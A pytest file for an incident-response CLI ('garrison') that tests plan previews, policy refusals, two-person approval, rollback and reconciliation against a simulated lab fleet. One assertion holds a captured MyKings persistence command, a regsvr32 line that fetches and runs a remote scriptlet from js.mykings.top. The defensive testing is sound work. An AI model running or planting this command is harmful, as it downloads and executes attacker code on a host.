"""``garrison plan``, ``rollback``, ``approve`` and ``reconcile`` as an analyst uses them, on the lab."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
import respx
from typer.testing import CliRunner

from actions.lab import HostSeed, LabFleet, ProcessSeed
from flows.cli import app
from flows.cli._output import CliError
from flows.demo import DEMO_HOST, mykings_alert, mykings_host
from flows.models import Alert, Indicator, IndicatorType, Provenance
from flows.respond._act import act_on_incident, settle
from flows.settings import Settings, get_settings
from flows.store import Store
from flows.tenants import generate_missing_secrets, tenants_from
from tests.actions.edr.test_crowdstrike import FakeFalcon

runner = CliRunner()
TENANTS = """
analysts: [alice, bob, mallory]
tenants:
  - id: demo
    name: Demo Customer Ltd.
    notify: [{url: 'outbox://demo'}]
    adapters: {lab: {}}
    policy:
      protected_assets: {hostnames: ['DC-*']}
      never_block: {domains: [demo-customer.example]}
      approvers: [alice, bob]
  - id: acme
    name: Acme Corp
    adapters:
      crowdstrike:
        settings: {base_url: 'https://falcon.test'}
        secrets:
          crowdstrike_client_id: {env: ACME_FALCON_CLIENT_ID}
          crowdstrike_client_secret: {env: ACME_FALCON_CLIENT_SECRET}
"""


@pytest.fixture
def tenants(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    path = tmp_path / "tenants.yaml"
    path.write_text(TENANTS, encoding="utf-8")
    monkeypatch.setenv("GARRISON_TENANTS_FILE", str(path))
    monkeypatch.delenv("GARRISON_ANALYST_KEY", raising=False)
    get_settings.cache_clear()
    current = get_settings()
    generate_missing_secrets(tenants_from(current.tenants_file), current.secrets_dir)
    return current


def _incident(store: Store, document: dict[str, Any] | None = None) -> str:
    document = document or mykings_alert()
    return store.record_alert(Alert.model_validate(document), document).incident_id


def _malicious(store: Store, incident_id: str, *values: tuple[IndicatorType, str]) -> None:
    intel = [Provenance(source="test-feed", verdict="malicious")]
    store.save_indicators(incident_id, [Indicator(type=t, value=v, provenance=intel) for t, v in values])


def _act(settings: Settings, store: Store, incident_id: str, keys: list[str]) -> list[Any]:
    tenant = tenants_from(settings.tenants_file).get("demo")
    assert tenant is not None
    return asyncio.run(act_on_incident(store, store.incident(incident_id), tenant, keys))  # type: ignore[arg-type]


def _json(*args: str) -> Any:
    result = runner.invoke(app, [*args, "--json"])
    assert result.exit_code == 0, (result.stdout, result.exception)
    return json.loads(result.stdout)


def test_plan_shows_every_action_per_target_with_its_verdict_and_changes_nothing(
    tenants: Settings, store: Store
) -> None:
    LabFleet(store.engine).seed(mykings_host())
    incident_id = _incident(store)
    _malicious(store, incident_id, (IndicatorType.DOMAIN, "js.mykings.top"), (IndicatorType.IPV4, "8.8.8.8"))
    _malicious(store, incident_id, (IndicatorType.DOMAIN, "mail.demo-customer.example"))

    plan = _json("plan", incident_id, "--playbook", "default")
    chosen = _json("plan", incident_id)

    # Not triaged yet: the plan foresees the verdict, and so the playbook the run's match rules will take.
    assert chosen["verdict_foreseen"] is True and chosen["verdict"] == "malicious"
    assert chosen["playbook"] == {"id": "persistence-malware", "version": "1"}
    rows = {(i["action"], i["target"]): i for i in plan["items"]}
    assert rows[("lab.isolate_host", DEMO_HOST)]["verdict"] == "allowed"
    assert rows[("lab.isolate_host", DEMO_HOST)]["vendor"].startswith("would run lab.isolate_host")
    # The request each target would get, and from which playbook.
    lab = "lab fleet (simulated, in Garrison's store)"
    assert rows[("lab.isolate_host", DEMO_HOST)]["call"] == f"{lab}: isolate_host host {DEMO_HOST}"
    assert rows[("lab.block_domain", "js.mykings.top")]["call"] == f"{lab}: block_domain js.mykings.top"
    assert plan["playbook"] == {"id": "default", "version": "2"}
    # At 80 columns the requests are listed under the table, each under its action and target.
    narrow = runner.invoke(app, ["plan", incident_id, "--playbook", "default"], env={"COLUMNS": "80"})
    assert narrow.exit_code == 0 and "The request each action would send:" in narrow.stdout
    assert f"  lab.isolate_host {DEMO_HOST}\n    → lab fleet" in narrow.stdout
    assert rows[("lab.block_domain", "js.mykings.top")]["verdict"] == "allowed"
    assert rows[("lab.block_ip", "8.8.8.8")]["verdict"] == "refused"
    assert "public DNS resolver" in rows[("lab.block_ip", "8.8.8.8")]["reason"]
    assert "tenant's own domain" in rows[("lab.block_domain", "mail.demo-customer.example")]["reason"]
    assert sum(i["action"] == "lab.delete_registry_value" for i in plan["items"]) == 3
    assert all(i["step"] == "contain" and i["when"] == ["malicious"] for i in plan["items"])
    # Nothing changed: no ledger row, the host as it was, no block.
    assert store.ledger.rows(incident_id) == []
    host = LabFleet(store.engine).show("demo", DEMO_HOST)[0]
    assert host["isolated"] is False and len(host["registry_values"]) == 4
    assert LabFleet(store.engine).blocks("demo") == []


def test_plan_shows_approval_needs_and_what_is_already_in_place(tenants: Settings, store: Store) -> None:
    fleet = LabFleet(store.engine)
    fleet.seed(HostSeed(tenant="demo", hostname="DC-01"))
    fleet.set_isolated("demo", "DC-01", True)
    document = mykings_alert()
    document["device"]["hostname"] = "DC-01"
    incident_id = _incident(store, document)

    table = runner.invoke(app, ["plan", incident_id], env={"COLUMNS": "250"})
    [isolate] = [i for i in _json("plan", incident_id)["items"] if i["action"] == "lab.isolate_host"]

    assert isolate["verdict"] == "needs_approval" and "two-person approval" in isolate["reason"]
    assert isolate["vendor"].startswith("already in place")
    assert table.exit_code == 0 and "needs_approval" in table.stdout


def test_plan_names_the_bound_vendor_and_an_error_per_capability_the_tenant_has_no_adapter_for(
    tenants: Settings, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ACME_FALCON_CLIENT_ID", "acme-id")
    monkeypatch.setenv("ACME_FALCON_CLIENT_SECRET", "acme-secret")
    LabFleet(store.engine).seed(mykings_host("acme"))
    document = mykings_alert()
    document["metadata"]["tenant_uid"] = "acme"
    incident_id = _incident(store, document)
    _malicious(store, incident_id, (IndicatorType.DOMAIN, "js.mykings.top"))

    with respx.mock(base_url="https://falcon.test", assert_all_called=False) as falcon:
        FakeFalcon(falcon)
        plan = _json("plan", incident_id, "--playbook", "default")
        table = runner.invoke(app, ["plan", incident_id, "--playbook", "default"], env={"COLUMNS": "250"})

    rows = {(i["action"], i["target"]): i for i in plan["items"]}
    assert rows[("crowdstrike.isolate_host", DEMO_HOST)]["verdict"] == "allowed"
    assert rows[("block_domain", "js.mykings.top")]["verdict"] == "unbound"
    assert not any(i["action"].startswith("lab.") for i in plan["items"])
    assert plan["errors"] == [
        {"step": "contain", "action": a, "error": f"no adapter for {a} in tenant acme"}
        for a in ("delete_registry_value", "block_domain", "block_ip")
    ]
    assert table.exit_code == 0  # a plan shows problems; it does not stop on them
    assert "error in step contain: no adapter for block_domain in tenant acme" in table.stdout
    assert store.ledger.rows(incident_id) == [] and LabFleet(store.engine).blocks("acme") == []


def test_rollback_runs_the_inverses_newest_first_once(tenants: Settings, store: Store) -> None:
    fleet = LabFleet(store.engine)
    fleet.seed(mykings_host())
    incident_id = _incident(store)
    _malicious(store, incident_id, (IndicatorType.DOMAIN, "js.mykings.top"))
    outcomes = _act(
        tenants, store, incident_id, ["lab.isolate_host", "lab.delete_registry_value", "lab.block_domain"]
    )
    assert {o.status for o in outcomes} == {"succeeded"}
    before = fleet.show("demo", DEMO_HOST)[0]
    assert before["isolated"] and len(before["registry_values"]) == 1

    preview = _json("rollback", incident_id)  # without --yes: a preview, nothing done
    assert preview["done"] is False and {i["status"] for i in preview["items"]} == {"would_run"}
    assert fleet.show("demo", DEMO_HOST)[0]["isolated"] is True

    done = _json("rollback", incident_id, "--yes")

    rows = store.ledger.rows(incident_id)
    originals = sorted((r for r in rows if r.reverses is None), key=lambda r: -r.id)
    assert [i["action"] for i in done["items"]] == [r.action for r in originals]  # newest first
    assert {i["status"] for i in done["items"]} == {"succeeded"}
    assert {r.action for r in rows if r.reverses} == {
        "lab.release_host",
        "lab.restore_registry_value",
        "lab.unblock_domain",
    }
    after = fleet.show("demo", DEMO_HOST)[0]
    assert after["isolated"] is False and fleet.blocks("demo") == []
    restored = {v["name"]: v["data"] for v in after["registry_values"]}
    assert restored["start"].startswith("regsvr32 /s /n /u /i:http://js.mykings.top")  # the captured data
    timeline = [t.message for t in store.incident(incident_id).timeline]  # type: ignore[union-attr]
    assert any(m.startswith("rollback of 5 action(s) requested") for m in timeline)
    assert any(m.startswith("lab.release_host on WS-FINANCE-07: succeeded") for m in timeline)

    again = _json("rollback", incident_id, "--yes")
    assert {i["status"] for i in again["items"]} == {"done"}
    assert len(store.ledger.rows(incident_id)) == len(rows)


def test_rollback_reports_actions_without_an_inverse(tenants: Settings, store: Store) -> None:
    LabFleet(store.engine).seed(
        HostSeed(tenant="demo", hostname=DEMO_HOST, processes=[ProcessSeed(pid=4242, name="powershell.exe")])
    )
    document = mykings_alert()
    document["evidences"] = [{"process": {"pid": 4242, "name": "powershell.exe"}}]
    incident_id = _incident(store, document)
    [killed] = _act(tenants, store, incident_id, ["lab.kill_process"])
    assert (killed.status, killed.target) == ("succeeded", f"{DEMO_HOST}:pid:4242 (powershell.exe)")

    done = _json("rollback", incident_id, "--yes")

    assert [(i["action"], i["status"]) for i in done["items"]] == [("lab.kill_process", "not_reversible")]


def test_two_authenticated_approvers_are_needed_and_nothing_acts_in_the_cli(
    tenants: Settings, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    fleet = LabFleet(store.engine)
    fleet.seed(HostSeed(tenant="demo", hostname="DC-01"))
    document = mykings_alert()
    document["device"]["hostname"] = "DC-01"
    incident_id = _incident(store, document)
    [held] = _act(tenants, store, incident_id, ["lab.isolate_host"])
    assert (held.status, held.hold) == ("skipped", "approval")
    assert settle(store, incident_id, [held.__dict__])[0] is False  # as the respond flow does after acting
    assert store.incident(incident_id).status == "awaiting_approval"  # type: ignore[union-attr]

    approve = ["approve", incident_id, "--action", "lab.isolate_host", "--target", "DC-01"]
    first = _json(*approve, "--by", "alice")
    twice = runner.invoke(app, [*approve, "--by", "alice"])
    outsider = runner.invoke(app, [*approve, "--by", "mallory"])
    stranger = runner.invoke(app, [*approve, "--by", "eve"])
    monkeypatch.setenv("GARRISON_ANALYST_KEY", (tenants.secrets_dir / "analysts" / "alice").read_text())
    posing = runner.invoke(app, [*approve, "--by", "bob"])  # alice's key, bob's name
    monkeypatch.delenv("GARRISON_ANALYST_KEY")

    assert (first["approvals"], first["required"], first["round"]) == (1, 2, 1)
    assert isinstance(twice.exception, CliError) and "already approved" in str(twice.exception)
    assert isinstance(outsider.exception, CliError) and "not an approver" in str(outsider.exception)
    assert isinstance(stranger.exception, CliError) and "unknown analyst" in str(stranger.exception)
    assert isinstance(posing.exception, CliError) and "not analyst bob's" in str(posing.exception)
    second = _json(*approve, "--by", "bob")
    assert second["approvals"] == 2
    assert fleet.show("demo", "DC-01")[0]["isolated"] is False  # the CLI recorded; a flow run acts
    incident = store.incident(incident_id)
    assert incident is not None
    assert sum("approved by" in t.message for t in incident.timeline) == 2


def test_reconcile_settles_what_a_dead_worker_left_pending(tenants: Settings, store: Store) -> None:
    LabFleet(store.engine).seed(mykings_host())
    incident_id = _incident(store)
    store.ledger.claim(
        tenant="demo",
        incident_id=incident_id,
        action="lab.isolate_host",
        target=DEMO_HOST,
        inputs={"hostname": DEMO_HOST},
        inverse="lab.release_host",
        owner="killed-worker",
        lease_seconds=0,
    )

    settled = _json("reconcile", incident_id)
    nothing = runner.invoke(app, ["reconcile"])

    assert [(o["action"], o["status"]) for o in settled] == [("lab.isolate_host", "succeeded")]
    assert LabFleet(store.engine).show("demo", DEMO_HOST)[0]["isolated"] is True
    assert "No pending action" in nothing.stdout


def test_unknown_incidents_are_one_line_errors(tenants: Settings) -> None:
    for command in (["plan", "nope"], ["rollback", "nope", "--yes"]):
        result = runner.invoke(app, command)
        assert isinstance(result.exception, CliError) and str(result.exception) == "no incident nope"
